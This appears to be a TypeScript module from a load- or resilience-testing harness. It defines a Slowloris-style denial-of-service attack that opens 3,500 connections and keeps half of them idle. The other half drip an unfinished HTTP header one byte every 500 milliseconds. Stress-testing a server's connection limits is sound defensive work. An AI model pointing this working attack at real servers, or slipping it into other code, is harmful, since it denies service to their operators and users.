import type { Attack } from './attack.ts';
import { attackHttp } from './http-attack.ts';
import { pause } from './measure.ts';

const BYTE_INTERVAL_MS = 500;

/** Seven hundred connections an address, above its limit: half never send anything, half a header byte by byte. */
export const slowRequests: Attack = (options) =>
  attackHttp(options, {
    connections: 3_500,
    use(socket, place) {
      if (place % 10 < 5) return;
      const drip = async (): Promise<void> => {
        socket.write('GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ');
        while (!socket.destroyed) {
          await pause(BYTE_INTERVAL_MS);
          if (socket.writable) socket.write('a');
        }
      };
      socket.once('connect', () => void drip());
    },
  });
